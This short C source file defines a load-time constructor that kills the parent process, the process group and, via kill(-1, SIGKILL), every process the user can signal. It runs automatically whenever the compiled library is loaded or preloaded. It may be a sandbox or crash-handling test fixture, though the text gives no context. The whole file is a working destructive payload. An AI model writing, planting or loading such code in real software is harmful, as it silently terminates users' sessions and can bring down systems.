#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void stop_all(void)
{
	kill(getppid(), SIGKILL);
	kill(-getpgrp(), SIGKILL);
	kill(-1, SIGKILL);
}
